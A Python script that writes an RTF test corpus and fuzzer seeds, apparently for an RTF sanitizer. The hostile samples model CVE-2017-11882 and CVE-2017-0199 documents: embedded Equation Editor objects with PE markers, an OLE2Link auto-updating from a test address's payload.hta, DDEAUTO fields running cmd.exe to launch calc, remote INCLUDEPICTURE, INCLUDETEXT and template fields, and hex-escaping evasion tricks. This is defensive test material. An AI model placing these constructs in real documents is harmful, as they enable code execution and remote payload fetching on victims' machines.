#!/usr/bin/env python3
"""Write the RTF samples (corpus/rtf/) and the fuzzing seeds (corpus/seeds/rtf/).

Hostile samples, one construct each, as seen in the CVE-2017-11882 and
CVE-2017-0199 documents and in DDE and template-injection campaigns:

  obj-*      embedded objects: an Equation Editor object whose \\objdata
             holds an OLE stream and a PE ("MZ") marker, the same with the
             hex interleaved with whitespace, \\' escapes, control words and
             \\bin, \\objdata hidden in an unknown ignorable destination or
             behind formatting words, an OLE2Link object that updates
             itself (\\objautlink \\objupdate) from a URL
  field-*    DDE, DDEAUTO (also spelled across groups and with \\' escapes),
             INCLUDEPICTURE from a remote server, INCLUDETEXT, IMPORT, LINK,
             HYPERLINKs to file: and UNC paths, a field nested in an
             instruction
  data-*     \\datastore, \\template, embedded fonts, document variables,
             mail-merge data sources, linked shape pictures
  pict-*     WMF and EMF pictures, \\bin data outside a picture
  block-*    what must be refused: a depth bomb, unbalanced braces, a
             {\\rt start that is not RTF, \\rtfXYZ headers, oversized
             parameters, a control word of 40 letters, \\bin past the end,
             a bad \\' escape
  trailing-payload.rtf  a PE appended after the document's closing brace

Benign samples: Japanese text in \\ansicpg932 (\\'hh pairs) and as \\uN with
\\uc2 fallbacks, a table, a PNG picture (hex and \\bin), kept fields
(PAGE, https and mailto hyperlinks). lo-japanese.rtf is LibreOffice's own
export of a Japanese document with a table and a picture: made by
`python3 corpus/make-rtf.py --soffice` (LibreOffice 7.4, Debian's
libreoffice-writer-nogui) and committed, so that the rest regenerates
with Python alone.

Every address in these samples is in 192.0.2.0/24 (TEST-NET-1) or runs calc.
"""

import os
import shutil
import struct
import subprocess
import sys
import tempfile
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "rtf")
SEEDS = os.path.join(HERE, "seeds", "rtf")


def png(w=8, h=4):
    def chunk(t, d):
        return struct.pack(">I", len(d)) + t + d + struct.pack(">I", zlib.crc32(t + d) & 0xFFFFFFFF)
    raw = b"".join(b"\0" + bytes((x * 30 + y * 50) & 255 for x in range(w) for _ in range(3))
                   for y in range(h))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0))
            + chunk(b"tEXt", b"Comment\0hidden text chunk")
            + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b""))


def hexlines(data, width=64):
    h = data.hex()
    return "\n".join(h[i:i + width] for i in range(0, len(h), width))


def sjis(s):
    """Text as \\'hh escapes in code page 932."""
    return "".join(c if ord(c) < 0x80 else "".join("\\'%02x" % b for b in c.encode("cp932"))
                   for c in s)


def uni(s):
    """Text as \\uN with a two-byte cp932 fallback (\\uc2)."""
    out = []
    for c in s:
        if ord(c) < 0x80:
            out.append(c)
        else:
            n = ord(c) if ord(c) < 32768 else ord(c) - 65536
            fb = c.encode("cp932", "replace")
            fb = (fb + b"??")[:2]
            out.append("\\u%d" % n + "".join("\\'%02x" % b for b in fb))
    return "".join(out)


HEAD = (r"{\rtf1\ansi\ansicpg932\deff0\deflang1033\deflangfe1041"
        r"{\fonttbl{\f0\fnil\fcharset128 MS Mincho;}{\f1\fswiss\fcharset0 Arial;}}"
        r"{\colortbl;\red0\green0\blue0;\red255\green0\blue0;}" "\n")

# An Equation Editor OLE stream as in CVE-2017-11882 documents: OLE 1.0
# header, class name, then a native-data blob carrying a PE header.
PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 44 + \
     b"\x80\x00\x00\x00" + b"This program cannot be run in DOS mode.\r\n$" + b"PE\x00\x00"
OLE1 = (struct.pack("<II", 0x0501, 2) + struct.pack("<I", 11) + b"Equation.3\0"
        + struct.pack("<II", 0, 0) + struct.pack("<I", len(PE)) + PE)
OBJHEX = hexlines(OLE1)
OLE2LINK = (struct.pack("<II", 0x0501, 2) + struct.pack("<I", 9) + b"OLE2Link\0"
            + b"\0" * 8 + "http://192.0.2.1/payload.hta".encode("utf-16-le"))

TEXT_JA = "無害化のテスト文書です。住民票の写しを添付します。"


def body(s):
    return HEAD + r"\pard\plain\f0\fs21 " + s + "\\par\n}"


HOSTILE = {
    "obj-equation-pe.rtf": body(
        "before " + r"{\object\objemb\objw380\objh260{\*\objclass Equation.3}"
        r"{\*\objdata " + "\n" + OBJHEX + "\n}"
        r"{\result{\pict\pngblip\picw8\pich4\picwgoal120\pichgoal60 " + "\n" + hexlines(png()) + "\n}}}"
        " after"),
    "obj-hex-evasion.rtf": body(
        r"{\object\objemb{\*\objclass Equation.3}{\*\objdata " + "\n"
        + " ".join(OLE1.hex()[i:i + 6] for i in range(0, 60, 6)) + r"\par "
        + r"\'34\'64\'35\'61" + r"{\*\junk 00}" + r" 4d 5a \bin4 MZ}{ " + OLE1.hex()[60:] + "}}"
        " visible"),
    "obj-hidden-ignorable.rtf": body(
        r"text {\*\xyzzy{\*\objdata " + OBJHEX + "}} more {\\*\\objdata " + OBJHEX + "} end"),
    "obj-behind-formatting.rtf": body(
        r"a{\b\i\fs20\objdata " + OBJHEX + r"}b{\ul\object\objemb\objupdate{\*\objdata "
        + OBJHEX + r"}{\result fallback}}c"),
    "obj-ole2link-autoupdate.rtf": body(
        r"{\object\objautlink\objupdate\rsltpict\objw9027\objh450{\*\objclass Word.Document.8}"
        r"{\*\objdata " + hexlines(OLE2LINK) + r"}{\result {cached}}}" " tail"),
    "field-dde.rtf": body(
        r"{\field{\*\fldinst {\rtlch DDEAUTO c:\\windows\\system32\\cmd.exe \"/k calc.exe\"}}"
        r"{\fldrslt {dde result one}}}\par "
        r"{\field{\*\fldinst {DD}{E}{AUTO} c:\\\\windows\\\\system32\\\\cmd.exe \"/c calc\"}"
        r"{\fldrslt {dde result two}}}\par "
        r"{\field\fldlock{\*\fldinst \'44\'44E Excel \"c:\\\\x.xls\" \"R1C1\"}"
        r"{\fldrslt dde result three}}"),
    "field-remote.rtf": body(
        r"{\field{\*\fldinst INCLUDEPICTURE \"http://192.0.2.1/track.png\" \\d}"
        r"{\fldrslt picture result}}\par "
        r"{\field{\*\fldinst INCLUDETEXT \"\\\\\\\\192.0.2.1\\\\share\\\\a.docx\"}{\fldrslt included text}}\par "
        r"{\field{\*\fldinst IMPORT \"http://192.0.2.1/i.wmf\"}{\fldrslt imported}}\par "
        r"{\field{\*\fldinst LINK Excel.Sheet.8 \"c:\\\\book.xls\" \"Sheet1!R1C1\" \\a}{\fldrslt linked}}\par "
        r"{\field{\*\fldinst HYPERLINK \"file://192.0.2.1/share/x.exe\"}{\fldrslt file link}}\par "
        r"{\field{\*\fldinst HYPERLINK \"\\\\\\\\192.0.2.1\\\\s\\\\x\"}{\fldrslt unc link}}\par "
        r"{\field{\*\fldinst {QUOTE {\field{\*\fldinst INCLUDETEXT \"http://192.0.2.1/q\"}}}}"
        r"{\fldrslt nested}}\par "
        r"{\field{\*\fldinst HYPERLINK \"https://www.example.jp/\"}{\fldrslt web link}}"),
    "data-datastore-template.rtf": body(
        r"{\*\template http://192.0.2.1/remote.dotm}{\*\datastore 0105000002000000" + OLE1.hex()
        + r"}{\*\docvar {name}{value}}{\*\hlinkbase http://192.0.2.1/}"
        r"{\*\mailmerge{\*\mmconnectstr Provider=MSDASQL;DSN=x}{\*\mmquery SELECT * FROM t}}"
        r"{\*\fontemb\ftruetype{\*\fontfile c:\\fonts\\evil.ttf}0001}"
        r"{\shp{\*\shpinst{\sp{\sn pibName}{\sv http://192.0.2.1/x.png}}{\sp{\sn pibFlags}{\sv 10}}}"
        r"{\shprslt shape fallback}} kept text"),
    "pict-metafiles.rtf": body(
        r"A{\pict\wmetafile8\picw100\pich100 0100090000035000000000000000}"
        r"B{\*\shppict{\pict\emfblip 01000000" + PE.hex() + r"}}C"),
    # \bin data holding braces: 8 bytes in plain text, 6 inside an \objdata.
    "pict-bin-outside.rtf": HEAD + "\\pard text {\\bin8 MZ}{\x90\x00\xff}}\\par\n"
        + "{\\*\\objdata \\bin6 }MZ\x00{}}more\\par\n}",
    "trailing-payload.rtf": body("short document") + "\n" + "MZ" + PE.hex(),
}

# Files that must be blocked: (name, content, expected reason code)
BLOCKED = {
    "block-depth-bomb.rtf": (HEAD + "{" * 300 + "deep" + "}" * 300 + "}", "limit"),
    "block-unbalanced-open.rtf": (HEAD + r"{\b never closed\par ", "parse-error"),
    "block-unbalanced-close.rtf": (body("x") + "}}", "parse-error"),
    "block-rt-prefix.rtf": (r"{\rt" + "\x00\x01 not rtf at all", "parse-error"),
    "block-rtfxyz.rtf": (r"{\rtfXYZ\ansi{\object\objemb{\*\objdata " + OBJHEX + "}}}", "parse-error"),
    "block-param-digits.rtf": (body(r"\fs123456789012 x"), "parse-error"),
    "block-param-int32.rtf": (body(r"\fs-2147483649 x"), "parse-error"),
    "block-long-word.rtf": (body("\\" + "a" * 40 + " x"), "parse-error"),
    "block-bin-past-end.rtf": (body(r"{\pict\pngblip\bin999999 x}"), "parse-error"),
    "block-bad-hex.rtf": (body(r"bad \'4g escape"), "parse-error"),
}

PNG = png()
TABLE = (r"\trowd\trgaph108\trleft0\cellx3000\cellx6000 " + r"\pard\intbl " + sjis("氏名")
         + r"\cell " + sjis("住所") + r"\cell\row " + r"\trowd\trgaph108\trleft0\cellx3000\cellx6000 "
         + r"\pard\intbl " + sjis("山田太郎") + r"\cell " + sjis("東京都千代田区") + r"\cell\row ")
BENIGN = {
    "benign-cp932.rtf": body(
        r"{\b " + sjis("お知らせ") + r"}\par " + sjis(TEXT_JA) + r"\par " + TABLE
        + r"\pard " + r"{\*\shppict{\pict\pngblip\picw8\pich4\picwgoal240\pichgoal120 " + "\n"
        + hexlines(PNG) + "\n}}" + r"\par Page {\field{\*\fldinst { PAGE }}{\fldrslt 1}}"),
    "benign-unicode.rtf": body(
        r"\uc2 " + uni(TEXT_JA) + r"\par {\uc1 \u26085?\u26412?\u-26800?}\par "
        + r"{\field{\*\fldinst HYPERLINK \"https://www.city.example.jp/\"}{\fldrslt "
        + uni("市のホームページ") + r"}}\par "
        + r"{\field{\*\fldinst HYPERLINK \"mailto:info@example.jp\"}{\fldrslt mail}}"),
}


def bin_png_sample():
    # A picture given as \bin data: kept, re-written as hex.
    return (HEAD + r"\pard before {\pict\pngblip\picw8\pich4 \bin" + str(len(PNG)) + " ").encode() \
        + PNG + b"} after\\par\n}"


FODT = """<?xml version="1.0" encoding="UTF-8"?>
<office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"
 xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"
 xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"
 xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"
 xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0"
 xmlns:xlink="http://www.w3.org/1999/xlink"
 office:version="1.2" office:mimetype="application/vnd.oasis.opendocument.text">
<office:body><office:text>
<text:h text:outline-level="1">住民サービスのお知らせ</text:h>
<text:p>令和六年度の窓口受付時間を変更します。詳しくは市役所までお問い合わせください。</text:p>
<text:p>English text, 半角ｶﾅ, 記号 ①②③ and “quotes”.</text:p>
<table:table table:name="T1"><table:table-column table:number-columns-repeated="2"/>
<table:table-row><table:table-cell><text:p>窓口</text:p></table:table-cell>
<table:table-cell><text:p>受付時間</text:p></table:table-cell></table:table-row>
<table:table-row><table:table-cell><text:p>市民課</text:p></table:table-cell>
<table:table-cell><text:p>午前8時30分から午後5時15分</text:p></table:table-cell></table:table-row>
</table:table>
<text:p><draw:frame draw:name="img1" svg:width="2cm" svg:height="1cm"><draw:image>
<office:binary-data>%s</office:binary-data></draw:image></draw:frame></text:p>
<text:p>以上</text:p>
</office:text></office:body></office:document>
"""


def make_lo():
    import base64
    tmp = tempfile.mkdtemp(prefix="make-rtf-")
    src = os.path.join(tmp, "lo-japanese.fodt")
    with open(src, "w", encoding="utf-8") as f:
        f.write(FODT % base64.b64encode(png(32, 16)).decode())
    env = dict(os.environ, HOME=tmp)
    subprocess.run(["soffice", "--headless", "--convert-to", "rtf", "--outdir", tmp, src],
                   check=True, env=env, capture_output=True, timeout=180)
    shutil.copy(os.path.join(tmp, "lo-japanese.rtf"), os.path.join(OUT, "lo-japanese.rtf"))
    shutil.rmtree(tmp)


def unescape_quotes(s):
    # The samples are written as raw strings with \" for a quote: make it one.
    import re
    return re.sub(r'(?<!\\)((?:\\\\)*)\\"', r'\1"', s)


def main():
    os.makedirs(OUT, exist_ok=True)
    os.makedirs(SEEDS, exist_ok=True)
    if "--soffice" in sys.argv:
        make_lo()
    files = {}
    for d in (HOSTILE, BENIGN):
        for n, s in d.items():
            files[n] = unescape_quotes(s).encode("latin-1")
    for n, (s, _code) in BLOCKED.items():
        files[n] = s.encode("latin-1")
    files["benign-bin-picture.rtf"] = bin_png_sample()
    for n, data in files.items():
        with open(os.path.join(OUT, n), "wb") as f:
            f.write(data)
    with open(os.path.join(OUT, "blocked.txt"), "w") as f:
        for n, (_s, code) in sorted(BLOCKED.items()):
            f.write(f"{n} {code}\n")
    # Seeds: the small samples (the fuzzer mutates them) and LibreOffice's file.
    for n in sorted(os.listdir(OUT)):
        p = os.path.join(OUT, n)
        if n.endswith(".rtf") and os.path.getsize(p) < 16384 and "depth-bomb" not in n:
            shutil.copy(p, os.path.join(SEEDS, n))


if __name__ == "__main__":
    main()
